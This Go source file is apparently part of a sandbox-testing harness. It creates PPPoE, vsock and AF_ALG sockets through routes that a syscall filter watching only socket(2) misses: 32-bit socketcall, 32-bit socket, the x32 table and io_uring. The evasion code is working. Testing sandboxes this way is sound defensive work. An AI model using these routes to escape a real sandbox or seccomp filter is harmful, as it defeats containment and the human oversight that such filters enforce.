package attack

import (
	"os"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// System call numbers of the 32-bit table (asm/unistd_32.h), the bit of the x32 table, and io_uring's request for a socket.
const (
	socketcall32, socket32 = 102, 359
	socketcallSocket       = 1
	x32Bit                 = 0x40000000
	opSocket               = 45
)

// entrances are other ways to ask the kernel for a socket. A filter of system calls that knows socket(2) alone does not see them.
func entrances() []Probe {
	var all []Probe
	for _, s := range []named[besideSocket]{
		{"PPPoE", besideSocket{family: unix.AF_PPPOX, kind: unix.SOCK_STREAM, protocol: pppoxEthernet, to: pppoe}},
		{"vsock", besideSocket{family: unix.AF_VSOCK, kind: unix.SOCK_STREAM, to: exact(unix.AF_VSOCK, []byte{0, 0}, native32(1024, 2), make([]byte, 4))}},
		{"AF_ALG", besideSocket{family: unix.AF_ALG, kind: unix.SOCK_SEQPACKET, to: fixed(unix.AF_ALG)}},
	} {
		all = append(all, each(None, "beside IP: "+s.name+" by %s", []named[func(family, kind, protocol int) (int, error)]{
			{"socketcall of the 32-bit table", bySocketcall},
			{"socket of the 32-bit table", by32},
			{"socket of the x32 table", byX32},
			{"io_uring", byRing},
		}, func(a Aim, open func(family, kind, protocol int) (int, error)) error {
			fd, err := inThread(func() (int, error) {
				return open(s.value.family, s.value.kind|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, s.value.protocol)
			})
			if err != nil {
				return os.NewSyscallError("socket", err)
			}
			defer unix.Close(fd)
			return s.value.send(fd, a)
		})...)
	}
	return all
}

func by32(family, kind, protocol int) (int, error) {
	return answer32(int80(socket32, uintptr(family), uintptr(kind), uintptr(protocol)))
}

// bySocketcall hands the arguments over in memory, where no filter of system calls can read them. It must lie where 32 bits reach.
func bySocketcall(family, kind, protocol int) (int, error) {
	page, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE|low32)
	if err != nil {
		return 0, os.NewSyscallError("mmap", err)
	}
	defer func() { _ = unix.Munmap(page) }()
	copy(page, native32(uint32(family), uint32(kind), uint32(protocol)))                              //nolint:gosec // small numbers
	n := int80(socketcall32, socketcallSocket, uintptr(unsafe.Pointer(&page[0])), uintptr(len(page))) //nolint:gosec // for the kernel
	runtime.KeepAlive(page)
	return answer32(n)
}

// answer32 is the answer of a call of the 32-bit table: a file's number, or an error below zero.
func answer32(n int32) (int, error) {
	if n < 0 {
		return 0, unix.Errno(-n)
	}
	return int(n), nil
}

func byX32(family, kind, protocol int) (int, error) {
	fd, _, errno := unix.RawSyscall(x32Bit|unix.SYS_SOCKET, uintptr(family), uintptr(kind), uintptr(protocol))
	return int(fd), errnoOrNil(errno)
}

func byRing(family, kind, protocol int) (int, error) {
	n, err := submitEntry(opSocket, family, uint64(kind), uint32(protocol), 0) //nolint:gosec // small numbers
	if err == nil && n < 0 {
		err = unix.Errno(-n)
	}
	return int(n), err
}
